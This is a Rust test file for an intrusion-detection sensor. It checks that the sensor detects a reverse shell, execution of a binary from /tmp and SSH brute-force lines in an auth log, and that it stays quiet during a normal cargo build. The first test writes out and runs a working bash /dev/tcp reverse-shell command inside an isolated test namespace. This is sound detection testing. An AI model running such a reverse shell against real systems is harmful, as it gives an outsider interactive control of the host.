//! Tier 4, micro-agents live: the sensor runs with its agents in a test namespace while
//! real processes misbehave. A reverse-shell-shaped child (a shell connected to a listener
//! in the peer namespace) and an exec from /tmp raise process findings; building and
//! testing a small crate under the sensor raises nothing above confidence 0.5.

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use tests::{ADDR_B, NetPair, PinDir, SensorProcess, privileged};

const WAIT: Duration = Duration::from_secs(15);

/// Each sensor sees every process on the host: the two tests must not run at once, or the
/// quiet build would see the attack test's shells.
static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    ONE_AT_A_TIME.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// Removes a path on drop (also when the test fails).
struct Remove(PathBuf);

impl Drop for Remove {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
        let _ = std::fs::remove_file(&self.0);
    }
}

fn wait_for_line(sensor: &SensorProcess, pred: impl Fn(&str) -> bool) -> Option<String> {
    let t0 = Instant::now();
    while t0.elapsed() < WAIT {
        if let Some(l) = sensor.stderr().lines().find(|l| pred(l)) {
            return Some(l.to_owned());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    None
}

fn start(net: &NetPair, pins: &PinDir, state: &Path) -> SensorProcess {
    SensorProcess::start(
        Some(&net.ns_a),
        &pins.path,
        &["--iface", &net.if_a, "--no-egress", "--agent-state", state.to_str().expect("utf8")],
    )
}

#[test]
fn a_reverse_shell_and_an_exec_from_tmp_raise_process_findings() {
    if !privileged(true) {
        return;
    }
    let _one = serial();
    let net = NetPair::new();
    let pins = PinDir::new();
    let state = Remove(std::env::temp_dir().join(tests::unique("agents-state-")));
    let sensor = start(&net, &pins, &state.0);

    // The attacker's listener, in the peer namespace.
    let (tx, rx) = std::sync::mpsc::channel();
    let listener = NetPair::spawn_in_ns(&net.ns_b, move || {
        let l = TcpListener::bind((ADDR_B, 0)).expect("bind");
        tx.send(l.local_addr().expect("addr").port()).expect("port");
        let (mut c, _) = l.accept().expect("the shell connects");
        c.set_read_timeout(Some(Duration::from_secs(5))).expect("timeout");
        c.write_all(b"echo reverse-shell-ok; exit\n").expect("command");
        let mut out = Vec::new();
        let _ = c.read_to_end(&mut out);
        out
    });
    let port = rx.recv().expect("listener up");
    // The classic shape: the outer shell connects, then execs an interactive shell on it.
    let mut shell = NetPair::command(&net.ns_a, "bash")
        .arg("-c")
        .arg(format!("exec bash -i </dev/tcp/{ADDR_B}/{port} >&0 2>&0"))
        .spawn()
        .expect("bash");
    let shell_pid = shell.id();
    let _ = shell.wait();
    let out = listener.join().expect("listener");
    assert!(
        String::from_utf8_lossy(&out).contains("reverse-shell-ok"),
        "the shell ran: {}",
        String::from_utf8_lossy(&out)
    );
    let line = wait_for_line(&sensor, |l| l.contains("finding process reverse_shell"))
        .unwrap_or_else(|| panic!("no reverse_shell finding; sensor stderr:\n{}", sensor.stderr()));
    assert!(line.contains(&shell_pid.to_string()) || line.contains(ADDR_B), "{line}");

    // An exec from /tmp.
    let dir = Remove(Path::new("/tmp").join(tests::unique("agents-tmp-")));
    std::fs::create_dir_all(&dir.0).expect("tmp dir");
    let payload = dir.0.join("payload");
    std::fs::copy("/bin/true", &payload).expect("copy");
    let status = Command::new(&payload).status().expect("run from /tmp");
    assert!(status.success());
    wait_for_line(&sensor, |l| l.contains("finding process exec_from_temp") && l.contains("payload"))
        .unwrap_or_else(|| panic!("no exec_from_temp finding; sensor stderr:\n{}", sensor.stderr()));
}

/// A small crate with a build script, a library, a unit test and an integration test.
fn write_crate(dir: &Path) {
    std::fs::create_dir_all(dir.join("src")).expect("src");
    std::fs::create_dir_all(dir.join("tests")).expect("tests");
    std::fs::write(
        dir.join("Cargo.toml"),
        "[package]\nname = \"workload\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .expect("manifest");
    std::fs::write(dir.join("build.rs"), "fn main() { println!(\"cargo:rustc-env=WORKLOAD=1\"); }\n")
        .expect("build.rs");
    std::fs::write(
        dir.join("src/lib.rs"),
        "pub fn add(a: u64, b: u64) -> u64 { a + b }\n#[cfg(test)]\nmod t { #[test] fn adds() { assert_eq!(super::add(2, 2), 4); } }\n",
    )
    .expect("lib");
    std::fs::write(dir.join("tests/it.rs"), "#[test] fn it() { assert_eq!(workload::add(1, 1), 2); }\n").expect("it");
}

#[test]
fn building_and_testing_a_crate_under_the_sensor_stays_quiet() {
    if !privileged(true) {
        return;
    }
    let _one = serial();
    let net = NetPair::new();
    let pins = PinDir::new();
    let state = Remove(std::env::temp_dir().join(tests::unique("agents-state-")));
    let mut sensor = start(&net, &pins, &state.0);
    // Under target/, not /tmp: a build directory is not a temporary directory.
    let work = Remove(PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(tests::unique("workload-")));
    write_crate(&work.0);
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    for args in [&["build", "--offline"][..], &["test", "--offline", "-q"][..]] {
        let out = Command::new(&cargo)
            .args(args)
            .current_dir(&work.0)
            .env("CARGO_TARGET_DIR", work.0.join("target"))
            .env_remove("RUSTFLAGS")
            .output()
            .expect("cargo runs");
        assert!(out.status.success(), "cargo {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    std::thread::sleep(Duration::from_millis(500));
    assert!(sensor.stop(WAIT), "sensor stops cleanly: {}", sensor.stderr());
    let execs = sensor.events.lock().expect("lock").iter().filter(|v| v["event_type"] == "exec").count();
    let err = sensor.stderr();
    let findings: Vec<&str> = err.lines().filter(|l| l.starts_with("finding ")).collect();
    let high: Vec<&&str> = findings
        .iter()
        .filter(|l| {
            l.split(" confidence ")
                .nth(1)
                .and_then(|r| r.split(' ').next())
                .and_then(|c| c.parse::<f64>().ok())
                .unwrap_or(1.0)
                > 0.5
        })
        .collect();
    eprintln!(
        "workload: {execs} execs, {} findings ({:.0} per 10,000 execs), {} above 0.5",
        findings.len(),
        findings.len() as f64 * 10_000.0 / execs.max(1) as f64,
        high.len()
    );
    assert!(execs >= 10, "the sensor saw the build's execs ({execs})");
    assert!(
        high.is_empty(),
        "findings above 0.5 during a normal build:\n{}",
        high.iter().map(|l| **l).collect::<Vec<_>>().join("\n")
    );
}

#[test]
fn failed_logins_appended_to_a_followed_auth_log_raise_brute_force() {
    if !privileged(true) {
        return;
    }
    let _one = serial();
    let net = NetPair::new();
    let pins = PinDir::new();
    let state = Remove(std::env::temp_dir().join(tests::unique("agents-state-")));
    let log = Remove(std::env::temp_dir().join(tests::unique("auth-log-")));
    std::fs::write(&log.0, "Nov 21 09:59:00 host sshd[10]: Server listening on 0.0.0.0 port 22.\n").expect("log");
    let sensor = SensorProcess::start(
        Some(&net.ns_a),
        &pins.path,
        &[
            "--iface",
            &net.if_a,
            "--no-egress",
            "--no-tracepoints",
            "--agent-state",
            state.0.to_str().expect("utf8"),
            "--auth-log",
            log.0.to_str().expect("utf8"),
        ],
    );
    let mut f = std::fs::OpenOptions::new().append(true).open(&log.0).expect("append");
    for (i, user) in ["admin", "root", "oracle", "test", "guest", "ubuntu", "pi"].iter().enumerate() {
        writeln!(
            f,
            "Nov 21 10:00:{i:02} host sshd[{}]: Failed password for invalid user {user} from 203.0.113.77 port {} ssh2",
            100 + i,
            40000 + i
        )
        .expect("line");
        // A malformed line between the real ones is counted, not fatal.
        f.write_all(b"Nov 21 10:00:00 host sshd[1]: Failed password for \xff\xfe from 999.1.1.1 port x\n")
            .expect("junk");
    }
    f.flush().expect("flush");
    let line = wait_for_line(&sensor, |l| l.contains("finding brute_force") && l.contains("203.0.113.77"))
        .unwrap_or_else(|| panic!("no brute_force finding; sensor stderr:\n{}", sensor.stderr()));
    assert!(line.contains("203.0.113.77"), "{line}");
}
